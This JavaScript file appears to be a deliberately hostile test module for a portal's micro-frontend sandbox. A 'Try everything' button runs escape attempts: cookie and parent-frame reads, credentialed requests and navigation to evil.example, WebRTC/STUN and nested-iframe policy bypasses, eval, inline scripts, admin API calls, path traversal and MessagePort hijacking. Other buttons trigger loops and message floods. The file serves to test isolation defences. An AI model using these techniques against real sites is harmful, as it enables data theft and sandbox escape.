// A module that keeps notes, and tries everything that an isolated module must not be able to do.
/** Run in a frame inside its frame, which `peerInside` makes: whether a connection to another browser can be had there. */
const tellParent = () => {
  let result = 'refused: there is none'
  try {
    result = `got ${new RTCPeerConnection().iceGatheringState}`
  } catch (fault) {
    result = `refused: ${fault.name}`
  }
  window.parent.postMessage({ inside: result }, '*')
}
const isInside = location.href === 'about:srcdoc'
if (isInside) tellParent()
const chunks = isInside ? {} : globalThis.probes[PROBE.global].chunks
chunks.list = (given) => {
  const { createElement: h, useEffect, useState } = given.react
  const { Link, useLocation } = given['react-router-dom']
  const { i18n, useHost } = given['@portal/sdk']

  const outcome = async (attempt) => {
    try {
      return await attempt()
    } catch (fault) {
      return `refused: ${fault.name} ${fault.status ?? ''}`.trim()
    }
  }
  const sent = (url, more) =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest()
      request.onload = () => resolve(`answered ${request.status}`)
      request.onerror = () => resolve('refused: network')
      request.open(more?.method ?? 'GET', url)
      request.withCredentials = true
      request.send()
    })
  /** Asks a server for this machine's address, as a call between two browsers begins. The policy of a page says nothing about it. */
  const peerConnection = async (port) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] })
    peer.createDataChannel('wells')
    await peer.setLocalDescription()
    await new Promise((resolve) => setTimeout(resolve, 1000))
    return peer.iceGatheringState
  }
  /** A frame inside has a window of its own, in which nothing was taken away yet. */
  const peerInside = async (scriptOf) => {
    const { base, files } = await (await fetch(`${PROBE.files}build.json`)).json()
    const text = [...document.scripts].find(({ text }) => text.includes('HostileListPage'))?.text ?? ''
    const address = new URL(`${base}list.js`, location.href).href
    const inside = document.createElement('iframe')
    inside.srcdoc = scriptOf({ address, hash: files['list.js'], text })
    const told = new Promise((resolve) => {
      window.addEventListener('message', ({ data }) => data?.inside && resolve(data.inside))
      setTimeout(() => resolve('refused: nothing ran'), 1500)
    })
    document.body.append(inside)
    const result = await told
    inside.remove()
    return result
  }
  // In one piece it would end the script that this text is put into.
  const end = ['<', '/script>'].join('')
  const insideBy = {
    file: ({ address, hash }) => `<script src="${address}" integrity="${hash}" crossorigin>${end}`,
    module: ({ address, hash }) =>
      `<script type="module" src="${address}" integrity="${hash}" crossorigin>${end}`,
    text: ({ text }) => `<script>${text}${end}`,
  }
  /** Links that ask a browser to get ready for a host. A script does not learn what became of them. */
  const hint = (host) => {
    for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload', 'prerender'])
      document.head.append(Object.assign(document.createElement('link'), { rel, as: 'script', href: host }))
  }
  const attemptsWith = (client, udp) => ({
    cookie: () => `got ${document.cookie}`,
    'parent document': () => `got ${window.parent.document.title}`,
    'parent location': () => `got ${window.parent.location.href}`,
    'top navigation': () => {
      window.top.location.href = 'https://evil.example/'
      return 'navigated'
    },
    'other windows': () => String(window.open('https://evil.example/')),
    opener: () => String(window.opener),
    storage: () => `got ${localStorage.length}`,
    'session storage': () => `got ${sessionStorage.length}`,
    database: () => {
      indexedDB.open('x')
      return 'opened'
    },
    'service worker': () => navigator.serviceWorker.register('/sw.js').then(() => 'registered'),
    'calls of its own host': () => sent('/api/session'),
    'the host of another module': () => sent(location.href.replace(PROBE.name, 'mfe-cases')),
    'calls of the portal': () => sent(`${PROBE.mark}/api/session`),
    'other servers': () => sent('https://evil.example/'),
    'a peer connection': () => peerConnection(udp),
    'a peer connection of a frame inside': () => peerInside(insideBy.file),
    'a peer connection of a module in a frame inside': () => peerInside(insideBy.module),
    'a peer connection of a text in a frame inside': () => peerInside(insideBy.text),
    eval: () => `got ${new Function('return 1')()}`,
    'inline script': () => {
      const script = document.createElement('script')
      script.textContent = 'document.title = "owned"'
      document.body.append(script)
      return document.title === 'owned' ? 'ran' : 'refused'
    },
    'users of the portal': () => client.call({ method: 'GET', path: '/admin/users' }),
    'a new role': () => client.call({ method: 'POST', path: '/admin/roles' }, { body: { name: 'Mine' } }),
    'records of others': () => client.call({ method: 'GET', path: '/modules/mfe-other/records/notes' }),
    'the session': () => client.call({ method: 'GET', path: '/session' }),
    'a path outside of calls': () => client.call({ method: 'GET', path: '/../modules.json' }),
    'an encoded path': () => client.call({ method: 'GET', path: '/%2e%2e/modules.json' }),
  })

  /** Takes the port from the program of the frame, and sends something of its own. */
  const throughPort = (notify, words) => {
    const { postMessage } = MessagePort.prototype
    MessagePort.prototype.postMessage = function () {
      MessagePort.prototype.postMessage = postMessage
      this.postMessage({ kind: 'say', tone: 'good', title: 'Wells', ...words })
    }
    notify.good('Wells')
  }
  const deep = () => {
    let title = 'deep'
    for (let level = 0; level < 800; level += 1) title = { title }
    return title
  }
  /** Saves a file as the portal's own screens do. */
  const save = async (client) => {
    const { blob, name } = await client.file(
      { method: 'GET', path: '/storage/samples/:file_name' },
      { params: { file_name: 'students.xlsx' } },
    )
    const link = document.createElement('a')
    Object.assign(link, { href: URL.createObjectURL(blob), download: name })
    link.click()
  }
  const upload = (client) =>
    client.call(
      { method: 'POST', path: '/home/attendance/import', multipart: true },
      { body: { attendance_file: new File(['not a workbook'], 'wells.txt') }, onUploadProgress: () => {} },
    )

  return function HostileListPage() {
    const { client, notify, flags, settings } = useHost()
    /** Where the test listens. */
    const at = new URLSearchParams(useLocation().search)
    const elsewhere = at.get('elsewhere') ?? 'https://evil.example/'
    const [notes, setNotes] = useState(null)
    const [found, setFound] = useState(null)
    const path = `/modules/${PROBE.name}/records/notes`
    const read = async () => {
      const { records } = await client.call({ method: 'GET', path })
      setNotes(records.data.map(({ id, data }) => ({ id, text: data.text })))
    }
    const write = async () => {
      const { message } = await client.call(
        { method: 'POST', path },
        { body: { data: { text: 'A well is dry' } } },
      )
      notify.good(message)
      await read()
    }
    const tell = () =>
      client
        .call(
          { method: 'POST', path: `/modules/${PROBE.name}/notices` },
          { body: { notice: 'dry', record: notes[0].id } },
        )
        .then(({ message }) => notify.good(message))
        .catch(({ message }) => notify.bad(message))
    const attack = async () => {
      const results = []
      for (const [name, attempt] of Object.entries(attemptsWith(client, at.get('udp'))))
        results.push({ name, result: await outcome(attempt) })
      setFound(results)
    }
    useEffect(() => void read(), [])
    const text = (value) => (typeof value === 'string' ? value : `got ${JSON.stringify(value)}`)
    return h(
      'div',
      { className: `${PROBE.name} stack` },
      h('h1', null, i18n._(`${PROBE.name}.title`)),
      Object.keys(flags ?? {}).length > 0 && h('p', null, `Flags ${JSON.stringify(flags)}`),
      Object.keys(settings ?? {}).length > 0 && h('p', null, `Settings ${JSON.stringify(settings)}`),
      h(
        'ul',
        { 'aria-label': 'Notes' },
        (notes ?? []).map((note) => h('li', { key: note.id }, note.text)),
      ),
      h('button', { type: 'button', onClick: write }, 'Write a note'),
      h('button', { type: 'button', onClick: tell }, 'Tell people'),
      h('button', { type: 'button', onClick: () => save(client) }, 'Save a file'),
      h(
        'button',
        {
          type: 'button',
          onClick: () => upload(client).catch((fault) => notify.bad(`Problem ${fault.status}`)),
        },
        'Send a file',
      ),
      h('button', { type: 'button', onClick: attack }, 'Try everything'),
      h(
        'button',
        {
          type: 'button',
          // Later, so that the click itself is over.
          onClick: () =>
            setTimeout(() => {
              for (;;);
            }, 500),
        },
        'Loop',
      ),
      h(
        'button',
        { type: 'button', onClick: () => throughPort(notify, { title: 'x'.repeat(50_000_000) }) },
        'Shout',
      ),
      h('button', { type: 'button', onClick: () => throughPort(notify, deep()) }, 'Dig'),
      h(
        'button',
        {
          type: 'button',
          onClick: () => {
            for (let count = 0; count < 5000; count += 1) notify.good(`Message ${count}`)
          },
        },
        'Chatter',
      ),
      h('button', { type: 'button', onClick: () => location.assign(elsewhere) }, 'Lead elsewhere'),
      h('button', { type: 'button', onClick: () => hint(elsewhere) }, 'Hint at a host'),
      h(Link, { to: `${PROBE.route}/form` }, i18n._(`${PROBE.name}.form`)),
      h(
        'ol',
        { 'aria-label': 'Attempts' },
        (found ?? []).map(({ name, result }) => h('li', { key: name }, `${name}: ${text(result)}`)),
      ),
    )
  }
}
